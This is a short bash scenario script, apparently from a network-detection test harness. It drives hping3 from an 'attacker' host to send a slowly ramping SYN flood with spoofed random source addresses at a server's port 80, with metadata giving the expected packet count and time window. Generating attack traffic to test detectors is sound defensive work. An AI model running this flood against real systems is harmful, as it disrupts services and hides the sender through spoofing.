# shellcheck shell=bash
# about: SYN that rise from one in three seconds to three a second, ten minutes long (hping3)
# type: attack
# long: yes
# kind: syn_flood
# target: server
# source: attacker
# tools: hping3
# within_ms: 600000
# packets: 500
play() {
	local tenths

	for tenths in 3 6 9 12 15 18 21 24 27 30; do
		on attacker timeout -s INT -k 0.3 60 hping3 -q -i u$((10000000 / tenths)) -S -p 80 --rand-source "$SERVER_IP"
	done
}
